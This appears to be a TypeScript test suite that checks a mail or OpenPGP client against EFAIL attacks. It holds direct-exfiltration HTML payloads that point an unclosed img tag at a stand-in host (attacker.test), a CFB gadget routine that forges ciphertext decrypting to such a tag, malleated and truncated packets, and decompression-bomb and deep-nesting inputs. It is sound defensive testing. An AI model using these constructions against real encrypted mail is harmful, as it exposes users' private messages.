// EFAIL: E1 to E5 as far as they are played with whole mails and pages; the bytes themselves are bad input (tests/hostile).

import * as hostile from '../../e2e/support/hostile.js';
import { encrypted, text } from '../../e2e/support/mime.js';
import { armor, dearmor, join, literal, packets, Tag } from '../../e2e/support/packets.js';
import { escaped } from '../../e2e/support/site.js';
import type { Case, Cases } from '../case.js';
import { html, mail, multipart, rearmored, sealed, withFields } from '../forms.js';
import { SECRET, type World } from '../world.js';

const OPEN = '<p>Hello <img src="http://attacker.test/';
const CLOSE = '"></p>';
/** What is left to see of the two halves, each a document of its own. */
const HALVES = ['Hello', '">'];

const around: Case = async (world) =>
  (
    await world.mail(mail(multipart('mixed', [html(OPEN), sealed(world), html(CLOSE)])), {
      seen: HALVES,
      parts: { 'encrypted.eml': [SECRET] },
    })
  ).outcome;

const aroundFile: Case = async (world) => {
  const block = world.gpg.encrypt(text(SECRET), [world.bob.fingerprint]).replace(/\r?\n/g, '\r\n');
  const part = withFields(`\r\n${block}`, 'Content-Type: application/octet-stream; name="a.asc"');
  return (
    await world.mail(mail(multipart('mixed', [html(OPEN), part, html(CLOSE)])), {
      seen: HALVES,
      parts: { 'a.asc': [SECRET] },
    })
  ).outcome;
};

/** What a mail server took apart is put together only if nothing else is with it. */
const aroundMangled: Case = async (world) => {
  const [version = '', data = ''] = sealed(world)
    .split(/--=-part-\d+(?:--)?\r\n/)
    .slice(1, 3);
  const parts = [html(OPEN), version.replace(/\r\n$/, ''), data.replace(/\r\n$/, ''), html(CLOSE)];
  return (await world.mail(mail(multipart('mixed', parts)), { seen: HALVES, parts: { 'encrypted.asc': [SECRET] } }))
    .outcome;
};

const hidden =
  (make: (armored: string) => string): Case =>
  async (world) =>
    world.blocks(make(escaped(world.gpg.encrypt(SECRET, [world.bob.fingerprint]))), []);

const plaintext: Case = async (world) =>
  world.blocks(`<b>Hello</b><plaintext>${world.gpg.encrypt(SECRET, [world.bob.fingerprint])}`, []);

/** One encrypted message, changed: as a block in a page, or as a whole mail. */
const changed =
  (change: (armored: string, world: World) => string, options = ['-z', '0']): Case =>
  async (world) => {
    const good = world.gpg.encrypt(text(SECRET), [world.bob.fingerprint], undefined, options);
    const bad = change(good, world);
    const block = await world.blocks(`<pre>${escaped(bad)}</pre>`, ['']);
    const whole = rearmored(mail(encrypted(world.gpg, text('-'), [world.bob.fingerprint])), () => bad);
    const { outcome } = await world.mail(whole, { seen: [] });
    return block === outcome ? block : `${block}; as a mail: ${outcome}`;
  };

const withBody = (armored: string, change: (body: Buffer) => Buffer): string =>
  armor(
    join(packets(dearmor(armored)).map(({ tag, body }) => ({ tag, body: tag === Tag.seipd ? change(body) : body }))),
  );

const BLOCK = 16;
const xor = (one: Buffer, other: Buffer): Buffer => Buffer.from(one.map((octet, at) => octet ^ (other[at] ?? 0)));

/**
 * The gadget of CFB: of two blocks of ciphertext whose plaintext is known any number of others can be made that decrypt
 * to what the attacker writes, with a block of noise behind each. Known is how the plaintext begins (RFC 9580, 5.13.1).
 */
function gadgets(body: Buffer): Buffer {
  const data = body.subarray(1);
  const blocks = [0, 1, 2].map((at) => Buffer.from(data.subarray(at * BLOCK, (at + 1) * BLOCK)));
  const [first, second, third] = blocks as [Buffer, Buffer, Buffer];
  const wanted = ['<img src="http:', '//attacker.test', '/?'].map((part) => Buffer.from(part.padEnd(BLOCK)));
  const guess = Buffer.alloc(BLOCK, 'x');
  const made = wanted.flatMap((one) => [xor(xor(first, guess), one), second]);
  return Buffer.concat([body.subarray(0, 1), first, second, third, ...made, data.subarray(3 * BLOCK)]);
}

const retagged20: Case = (world) => {
  const bad = hostile.gnupgOcb(world.gpg, SECRET, world.bob.fingerprint);
  const stripped = armor(
    join(
      packets(dearmor(bad)).map(({ tag, body }) =>
        tag === Tag.ocb ? { tag: 9, body: body.subarray(4) } : { tag, body },
      ),
    ),
  );
  return world.blocks(`<pre>${escaped(stripped)}</pre>`, ['']);
};

const ocb =
  (change: (armored: string) => string): Case =>
  (world) =>
    world.blocks(`<pre>${escaped(change(hostile.gnupgOcb(world.gpg, SECRET, world.bob.fingerprint)))}</pre>`, ['']);

const packetsAs =
  (make: () => Buffer): Case =>
  (world) =>
    world.blocks(`<pre>${escaped(armor(world.gpg.encryptPackets(make(), world.bob.fingerprint)))}</pre>`, ['']);

export const EFAIL: Cases = {
  'E1.mixed': around,
  'E1.file': aroundFile,
  'E1.taken-apart': aroundMangled,
  'E2.attribute': hidden((armored) => `<p title="${armored}">x</p><img alt="${armored}" src="data:,">`),
  'E2.comment': hidden((armored) => `<!-- ${armored} -->`),
  'E2.style': hidden((armored) => `<style>/* ${armored} */</style><script type="text/plain">${armored}</script>`),
  'E2.textarea': hidden((armored) => `<textarea rows="40" cols="90">${armored}</textarea>`),
  'E2.not-drawn': hidden((armored) => `<pre style="display:none">${armored}</pre><pre hidden>${armored}</pre>`),
  'E2.not-seen': hidden(
    (armored) => `<pre style="opacity:0">${armored}</pre><pre style="visibility:hidden">${armored}</pre>`,
  ),
  'E2.elsewhere': hidden(
    (armored) =>
      `<pre style="position:absolute;left:-9999px">${armored}</pre><pre style="font-size:0">${armored}</pre>`,
  ),
  'E2.plaintext': plaintext,
  'E3.bit': changed((armored) => hostile.flipped(armored)),
  'E3.no-mdc': changed((armored) => hostile.cut(armored, 22)),
  'E3.cut': changed((armored) => hostile.truncated(armored)),
  'E3.tag-9': changed((armored) => hostile.unprotected(armored)),
  'E3.tag-20': ocb((armored) => hostile.cut(armored, 16)),
  'E3.tag-20-to-9': retagged20,
  'E4.plain': changed((armored) => withBody(armored, gadgets)),
  'E4.compressed': changed((armored) => withBody(armored, gadgets), ['-z', '9']),
  'E5.bit': ocb((armored) => hostile.flipped(armored, 40)),
  'E8.nested': packetsAs(() => hostile.nested(100_000)),
  'E8.bomb': packetsAs(() => hostile.bomb()),
  'E8.markers': packetsAs(() =>
    Buffer.concat([...new Array<Buffer>(100_000).fill(Buffer.from('ca03504750', 'hex')), literal('x')]),
  ),
};
